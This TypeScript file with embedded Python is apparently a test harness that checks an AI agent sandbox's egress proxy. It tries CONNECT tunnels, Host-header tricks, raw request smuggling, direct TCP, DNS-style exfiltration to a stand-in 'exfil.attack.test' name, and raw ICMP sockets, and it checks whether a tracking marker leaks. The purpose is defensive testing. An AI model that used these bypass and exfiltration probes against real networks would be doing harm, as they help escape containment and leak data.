/**
 * Probes the network attacks run inside a sandbox (python3 in the debian image): a list of attempts
 * goes in on stdin as JSON, one JSON result per attempt comes out. Every attempt carries a marker the
 * stand-ins look for, so a leak is traced to the attack that caused it even when several run at once.
 */
import { randomBytes } from 'node:crypto';
import type { AttackContext, AttackOutcome } from './types.js';

export type Attempt =
  /** CONNECT through the sandbox's proxy, then (on 200) an HTTP request carrying the marker through the tunnel */
  | { kind: 'connect'; target: string; label?: string; tunnelBytes?: string }
  /** a plain-HTTP proxy request in absolute form, optionally with another Host header */
  | { kind: 'get'; url: string; host?: string; label?: string }
  /** raw bytes to the proxy (smuggling, pipelining); the proxy's whole answer comes back */
  | { kind: 'raw'; data: string; label?: string }
  /** a direct TCP connection, around the proxy */
  | { kind: 'tcp'; host: string; port: number; family?: 4 | 6; label?: string }
  /** a UDP datagram (DNS-style) */
  | { kind: 'udp'; host: string; port: number; family?: 4 | 6; dnsName?: string; label?: string }
  /** the sandbox's resolver */
  | { kind: 'resolve'; name: string; label?: string }
  /** a raw or packet socket, and ICMP echo */
  | { kind: 'rawsock'; domain: 'packet' | 'inet-raw-icmp' | 'inet-raw-tcp' | 'inet6-raw' | 'icmp-dgram'; target?: string; label?: string };

export interface AttemptResult {
  label: string;
  /** no answer at all: refused, unreachable, reset (what) */
  error?: string;
  status?: string;
  headers?: Record<string, string>;
  body?: string;
  /** for tcp/udp/rawsock: whether the socket call got through */
  ok?: boolean;
  /** for raw: the proxy's whole answer (first 4 KiB) */
  raw?: string;
}

export const PROBE_PY = String.raw`
import json, socket, sys, os, ssl
PROXY = ("127.0.0.1", 3128)
attempts = json.load(sys.stdin)
marker = os.environ["ATTACK_MARKER"]
out = []
def recv_all(s, limit=65536):
    data = b""
    try:
        while len(data) < limit:
            c = s.recv(65536)
            if not c:
                break
            data += c
    except Exception:
        pass
    return data
def parse(data):
    head, _, body = data.partition(b"\r\n\r\n")
    lines = head.decode("latin1").split("\r\n")
    headers = {}
    for l in lines[1:]:
        if ":" in l:
            k, v = l.split(":", 1)
            headers[k.strip().lower()] = v.strip()
    return lines[0], headers, body.decode("latin1")[:600]
for a in attempts:
    r = {"label": a.get("label") or a.get("target") or a.get("url") or a.get("host") or a.get("name") or a["kind"]}
    try:
        k = a["kind"]
        if k == "connect":
            s = socket.create_connection(PROXY, timeout=8)
            s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (a["target"], a["target"])).encode())
            first = b""
            while b"\r\n\r\n" not in first:
                c = s.recv(4096)
                if not c:
                    break
                first += c
            st, h, b = parse(first)
            r["status"], r["headers"] = st, h
            if " 200 " in st + " ":
                tb = a.get("tunnelBytes")
                s.sendall((tb.replace("MARKER", marker) if tb else "GET / HTTP/1.1\r\nHost: x\r\nX-Marker: %s\r\nConnection: close\r\n\r\n%s" % (marker, marker)).encode("latin1"))
                r["body"] = recv_all(s).decode("latin1")[:600]
            else:
                r["body"] = (b + recv_all(s).decode("latin1"))[:600]
            s.close()
        elif k == "get":
            s = socket.create_connection(PROXY, timeout=8)
            host = a.get("host")
            from urllib.parse import urlsplit
            if host is None:
                host = urlsplit(a["url"]).netloc
            s.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\nX-Marker: %s\r\nConnection: close\r\n\r\n" % (a["url"], host, marker)).encode("latin1"))
            st, h, b = parse(recv_all(s))
            r["status"], r["headers"], r["body"] = st, h, b
            s.close()
        elif k == "raw":
            s = socket.create_connection(PROXY, timeout=8)
            s.sendall(a["data"].replace("MARKER", marker).encode("latin1"))
            try:
                s.shutdown(socket.SHUT_WR)
            except Exception:
                pass
            data = recv_all(s)
            r["raw"] = data.decode("latin1")[:4096]
            st, h, b = parse(data)
            r["status"], r["headers"], r["body"] = st, h, b
            s.close()
        elif k == "tcp":
            fam = socket.AF_INET6 if a.get("family") == 6 else socket.AF_INET
            s = socket.socket(fam, socket.SOCK_STREAM)
            s.settimeout(4)
            s.connect((a["host"], a["port"]))
            s.sendall(("GET / HTTP/1.1\r\nHost: x\r\nX-Marker: %s\r\n\r\n" % marker).encode())
            r["ok"] = True
            r["body"] = recv_all(s, 4096).decode("latin1")[:300]
            s.close()
        elif k == "udp":
            fam = socket.AF_INET6 if a.get("family") == 6 else socket.AF_INET
            s = socket.socket(fam, socket.SOCK_DGRAM)
            s.settimeout(2)
            name = a.get("dnsName") or (marker + ".exfil.attack.test")
            q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00\x00\x01\x00\x01"
            s.sendto(q + marker.encode(), (a["host"], a["port"]))
            r["ok"] = True
            try:
                s.recvfrom(512)
                r["body"] = "answered"
            except Exception as e:
                r["body"] = "no answer (%s)" % type(e).__name__
            s.close()
        elif k == "resolve":
            res = socket.getaddrinfo(a["name"], 80)
            r["ok"] = True
            r["body"] = ",".join(sorted(set(x[4][0] for x in res)))
        elif k == "rawsock":
            d = a["domain"]
            if d == "packet":
                s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
            elif d == "inet-raw-icmp":
                s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
            elif d == "inet-raw-tcp":
                s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
            elif d == "inet6-raw":
                s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
            else:
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
            r["body"] = "socket opened"
            t = a.get("target")
            if t:
                pkt = b"\x08\x00\xf7\xff\x00\x00\x00\x00" + marker.encode()
                s.settimeout(2)
                s.sendto(pkt, (t, 0))
                r["body"] = "socket opened and sent to " + t
                r["ok"] = True
            else:
                r["ok"] = d in ("packet", "inet-raw-tcp", "inet6-raw", "inet-raw-icmp")
            s.close()
    except Exception as e:
        r["error"] = "%s: %s" % (type(e).__name__, e)
    out.append(r)
print(json.dumps(out))
`;

export function newMarker(): string {
  return `atk${randomBytes(8).toString('hex')}`;
}

/** Runs the attempts from inside `sandboxId`; returns their results and the marker used. */
export async function probe(ctx: AttackContext, sandboxId: string, attempts: readonly Attempt[]): Promise<{ results: AttemptResult[]; marker: string }> {
  const marker = newMarker();
  const r = await ctx.exec(sandboxId, ['python3', '-c', PROBE_PY], { stdin: JSON.stringify(attempts), env: { ATTACK_MARKER: marker }, timeoutMs: 90_000 });
  if (r.exitCode !== 0) throw new Error(`the probe did not run (exit ${r.exitCode}): ${(r.stderr || r.stdout).slice(-300)}`);
  const line = r.stdout.trim().split('\n').pop() ?? '[]';
  return { results: JSON.parse(line) as AttemptResult[], marker };
}

function statusCode(status: string | undefined): number | null {
  const m = /^HTTP\/1\.[01] (\d{3})/.exec(status ?? '');
  return m ? Number(m[1]) : null;
}

/**
 * Whether the sandbox's proxy refused an attempt itself: its own 4xx (rule header or its text), or
 * no answer at all. A 200 tunnel, a forwarded answer, or the proxy's "allowed but could not be
 * reached" 502 (it decided to let it through) is a leak.
 */
export function proxyRefused(r: AttemptResult): boolean {
  if (r.error !== undefined && r.status === undefined) return true;
  const code = statusCode(r.status);
  if (code === null) return (r.body ?? '') === '' && (r.raw ?? '') === '';
  if (code >= 200 && code < 400) return false;
  if (/is allowed but could not be reached/.test(r.body ?? '')) return false;
  if (r.headers?.['x-agentbox-egress-rule']) return true;
  if (code >= 400 && code < 500 && /^agentbox egress/.test(r.body ?? '')) return true;
  // The proxy's HTTP parser refusing a malformed request (a bare 400 with no body).
  if (code === 400 && (r.body ?? '') === '') return true;
  return false;
}

export function describe(r: AttemptResult): string {
  if (r.error !== undefined && r.status === undefined) return `${r.label}: ${r.error}`;
  if (r.status !== undefined) {
    const rule = r.headers?.['x-agentbox-egress-rule'];
    return `${r.label}: ${r.status.slice(0, 60)}${rule ? ` [${rule}]` : ''}`;
  }
  return `${r.label}: ${r.ok ? 'went through' : 'refused'}${r.body ? ` (${r.body.slice(0, 80)})` : ''}`;
}

/** The verdict for attempts that must all be refused by the proxy, with nothing reaching a stand-in. */
export function allRefused(ctx: AttackContext, results: readonly AttemptResult[], marker: string, what: string): AttackOutcome {
  const leaked = results.filter((r) => !proxyRefused(r));
  const reached = (ctx.standIns.received?.(marker) ?? []).join(', ');
  if (leaked.length === 0 && !reached) return { blocked: true, detail: `${what}: all ${results.length} refused (${results.map(describe).slice(0, 4).join('; ')}${results.length > 4 ? '; …' : ''})` };
  return {
    blocked: false,
    detail: `${what}: ${reached ? `stand-in(s) ${reached} received the attack marker; ` : ''}${leaked.length} got through: ${leaked.map(describe).join('; ')}`,
  };
}

/** The verdict for socket attempts that must all fail (no route, no permission). */
export function allFailed(ctx: AttackContext, results: readonly AttemptResult[], marker: string, what: string): AttackOutcome {
  const through = results.filter((r) => r.error === undefined);
  const reached = (ctx.standIns.received?.(marker) ?? []).join(', ');
  if (through.length === 0 && !reached) return { blocked: true, detail: `${what}: ${results.map(describe).slice(0, 4).join('; ')}` };
  return { blocked: false, detail: `${what}: ${reached ? `stand-in(s) ${reached} received the attack marker; ` : ''}${through.map(describe).join('; ')}` };
}
